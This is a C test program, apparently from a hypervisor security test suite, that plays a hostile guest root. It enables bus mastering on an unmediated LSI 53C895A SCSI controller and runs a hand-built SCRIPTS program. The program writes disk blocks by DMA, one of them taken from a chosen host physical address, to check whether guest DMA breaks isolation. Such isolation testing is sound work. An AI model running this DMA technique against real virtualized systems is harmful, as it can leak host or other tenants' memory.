// sv-scsidma: a hostile guest root drives a storage controller the
// hypervisor does not mediate, an LSI 53C895A SCSI HBA (QEMU lsi53c895a, no
// driver in the test guest), to write disk blocks by DMA (issue 12 item 6).
// It sets I/O space and Bus Master Enable (0xCF8/0xCFC), writes a SCRIPTS
// program into its own locked page (physical address from /proc/self/pagemap)
// and starts it by writing DSP through the I/O BAR. The program selects
// target 0, sends IDENTIFY and a CDB, then (if the target asks for data
// rather than going to STATUS) one 512-byte block from a data address,
// takes STATUS and MESSAGE IN and stops with INT (DSTAT.SIR).
//   tur  TEST UNIT READY: takes the disk's power-on unit attention (a
//        CHECK CONDITION, SPC-3 §5.9.7), which would fail the first write
//   own  WRITE(10) of LBA 64 from the page itself (a known pattern: the
//        DMA path works)
//   hv   WRITE(10) of LBA 128 from HVADDR (e.g. the hypervisor's memory
//        marker)
// A command answered with CHECK CONDITION is issued again (at most 3 times).
// The host looks for the pattern and the marker in the disk image.
// LSI53C895A Technical Manual ch. 5 (registers: ISTAT 14h, DSTAT 0Ch, DSP
// 2Ch, DSPS 30h, SIST0/1 42h/43h) and ch. 6 (SCRIPTS: block move, I/O
// select, transfer control INT); SCSI-2 §7.2.21 WRITE(10), §6.5 IDENTIFY.
//
// usage: sv-scsidma HVADDR     (hex physical address)
// Prints "SV-INFO scsidma-device ..." and "SV-INFO scsidma NAME OUTCOME
// dstat=.. sist=.... dsps=.. status=.."; OUTCOME done (SCRIPTS reached the
// final INT) or stopped/timeout. Exit status 0 when all three ended GOOD.
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>
#include "sv-hw.h"

#define LSI_VENDOR_DEVICE 0x00121000u // 1000h:0012h, 53C895A
#define REG_DSTAT 0x0C
#define REG_ISTAT 0x14
#define REG_DSP 0x2C
#define REG_DSPS 0x30
#define REG_SIST0 0x42
#define REG_SIST1 0x43
#define ISTAT_DIP 0x01 // DMA (SCRIPTS) interrupt pending
#define ISTAT_SIP 0x02 // SCSI interrupt pending
#define ISTAT_SRST 0x40
#define DSTAT_SIR 0x04 // SCRIPTS INT instruction

// SCRIPTS (LSI manual ch. 6). Block move, initiator mode: bit 27 opcode
// MOVE, bits 26:24 the phase it must be in, 23:0 the byte count; the
// second dword is the buffer address.
#define PHASE_DATA_OUT 0
#define PHASE_COMMAND 2
#define PHASE_STATUS 3
#define PHASE_MSG_OUT 6
#define PHASE_MSG_IN 7
#define MOVE(phase, count) (0x08000000u | (uint32_t)(phase) << 24 | (count))
// Transfer control JUMP (opcode 000), jump if true (bit 19), compare phase
// (bit 17): to the second dword when the target is in `phase`.
#define JUMP_IF_PHASE(phase) (0x80000000u | (uint32_t)(phase) << 24 | 1u << 19 | 1u << 17)
#define SELECT(id) (0x40000000u | (uint32_t)(id) << 16) // second dword: where to go if reselected
#define INT_ALWAYS 0x98080000u                          // transfer control, INT, jump-if-true, no compare

// Page layout.
#define OFF_SCRIPT 0x000
#define OFF_MSGOUT 0x200
#define OFF_CDB 0x210
#define OFF_STATUS 0x220
#define OFF_MSGIN 0x221
#define OFF_DATA 0x400
#define DONE_VALUE 0x5C51u
#define PATTERN "SV-SCSIDMA-GUEST-PATTERN-"

static unsigned io_base;

static int find_lsi(unsigned *bus, unsigned *dev)
{
    for (unsigned b = 0; b < 256; b++)
        for (unsigned d = 0; d < 32; d++)
            if (sv_pci_read32(b, d, 0, 0) == LSI_VENDOR_DEVICE) {
                *bus = b;
                *dev = d;
                return 0;
            }
    return -1;
}

static void build_script(uint32_t *s, uint64_t page, uint64_t data, uint32_t lba, int write)
{
    uint8_t *p = (uint8_t *)s;
    int i = 0;
    s[i++] = SELECT(0);
    s[i++] = (uint32_t)page + 0x100; // reselected: the failure INT below
    s[i++] = MOVE(PHASE_MSG_OUT, 1);
    s[i++] = (uint32_t)page + OFF_MSGOUT;
    s[i++] = MOVE(PHASE_COMMAND, 10);
    s[i++] = (uint32_t)page + OFF_CDB;
    s[i++] = JUMP_IF_PHASE(PHASE_STATUS); // no data phase (TUR, or an error)
    s[i++] = (uint32_t)page + 4 * 10;     // the STATUS move, two instructions on
    s[i++] = MOVE(PHASE_DATA_OUT, 512);
    s[i++] = (uint32_t)data;
    s[i++] = MOVE(PHASE_STATUS, 1); // dword 10
    s[i++] = (uint32_t)page + OFF_STATUS;
    s[i++] = MOVE(PHASE_MSG_IN, 1);
    s[i++] = (uint32_t)page + OFF_MSGIN;
    s[i++] = INT_ALWAYS;
    s[i++] = DONE_VALUE;
    s[0x100 / 4] = INT_ALWAYS;
    s[0x100 / 4 + 1] = 0xBAD;
    p[OFF_MSGOUT] = 0x80; // IDENTIFY, LUN 0, no disconnect privilege
    p[OFF_STATUS] = 0xEE;
    p[OFF_MSGIN] = 0xEE;
    uint8_t *cdb = p + OFF_CDB;
    memset(cdb, 0, 10);
    if (!write)
        return; // TEST UNIT READY: opcode 00h, six zero bytes
    cdb[0] = 0x2A; // WRITE(10)
    cdb[2] = (uint8_t)(lba >> 24);
    cdb[3] = (uint8_t)(lba >> 16);
    cdb[4] = (uint8_t)(lba >> 8);
    cdb[5] = (uint8_t)lba;
    cdb[8] = 1; // one block
}

// One SCRIPTS run; returns the SCSI status byte, or -1 when SCRIPTS did not
// reach the final INT.
static int run_once(const char *name, volatile uint8_t *page, uint64_t page_pa, uint64_t data, uint32_t lba,
                    int write)
{
    build_script((uint32_t *)page, page_pa, data, lba, write);
    __sync_synchronize();
    outl((uint32_t)page_pa + OFF_SCRIPT, io_base + REG_DSP); // DSP's last byte starts SCRIPTS
    const double until = sv_now_s() + 5;
    uint8_t istat;
    while (!((istat = inb(io_base + REG_ISTAT)) & (ISTAT_DIP | ISTAT_SIP)) && sv_now_s() < until)
        usleep(1000);
    const uint8_t sist0 = inb(io_base + REG_SIST0), sist1 = inb(io_base + REG_SIST1);
    const uint8_t dstat = inb(io_base + REG_DSTAT); // read clears it
    const uint32_t dsps = inl(io_base + REG_DSPS);
    const char *outcome = !(istat & (ISTAT_DIP | ISTAT_SIP)) ? "timeout"
                          : (dstat & DSTAT_SIR) && dsps == DONE_VALUE ? "done"
                                                                      : "stopped";
    printf("SV-INFO scsidma %s %s dstat=%02x sist=%02x%02x dsps=%x status=%02x msgin=%02x data=%llx lba=%u\n", name,
           outcome, dstat, sist1, sist0, dsps, page[OFF_STATUS], page[OFF_MSGIN], (unsigned long long)data, lba);
    return strcmp(outcome, "done") == 0 ? page[OFF_STATUS] : -1;
}

#define STATUS_GOOD 0x00
#define STATUS_CHECK_CONDITION 0x02

// 0 when the command ended GOOD (CHECK CONDITIONs retried).
static int run(const char *name, volatile uint8_t *page, uint64_t page_pa, uint64_t data, uint32_t lba, int write)
{
    int status = -1;
    for (int attempt = 0; attempt < 3; attempt++) {
        status = run_once(name, page, page_pa, data, lba, write);
        if (status != STATUS_CHECK_CONDITION)
            break;
    }
    return status == STATUS_GOOD ? 0 : 1;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc != 2) {
        fprintf(stderr, "usage: sv-scsidma HVADDR\n");
        return 2;
    }
    const uint64_t hvaddr = strtoull(argv[1], NULL, 16);
    unsigned bus, dev;
    if (iopl(3) || find_lsi(&bus, &dev)) {
        printf("SV-INFO scsidma-error no LSI 53C895A (or no iopl)\n");
        return 1;
    }
    io_base = sv_pci_read32(bus, dev, 0, 0x10) & ~0x3u; // BAR0: I/O
    outl(sv_pci_addr(bus, dev, 0, 4), 0xCF8);
    outw((uint16_t)(inw(0xCFC) | 0x5), 0xCFC); // I/O space + bus master
    outl(sv_pci_addr(bus, dev, 0, 4), 0xCF8);
    const unsigned command = inw(0xCFC);
    printf("SV-INFO scsidma-device %02x:%02x.0 io %x command %04x bme %u\n", bus, dev, io_base, command,
           (command >> 2) & 1);
    uint8_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED, -1, 0);
    if (page == MAP_FAILED) {
        printf("SV-INFO scsidma-error no locked page\n");
        return 1;
    }
    memset(page, 0, 4096);
    const uint64_t page_pa = sv_phys_of(page);
    if (!page_pa || page_pa >> 32) {
        printf("SV-INFO scsidma-error no 32-bit physical address (pagemap) %llx\n", (unsigned long long)page_pa);
        return 1;
    }
    outb(ISTAT_SRST, io_base + REG_ISTAT); // chip soft reset
    outb(0, io_base + REG_ISTAT);
    for (int i = 0; i + (int)sizeof PATTERN <= 512; i += (int)sizeof PATTERN - 1)
        memcpy(page + OFF_DATA + i, PATTERN, sizeof PATTERN - 1);
    int bad = run("tur", page, page_pa, 0, 0, 0);
    bad |= run("own", page, page_pa, page_pa + OFF_DATA, 64, 1);
    bad |= run("hv", page, page_pa, hvaddr, 128, 1);
    return bad;
}
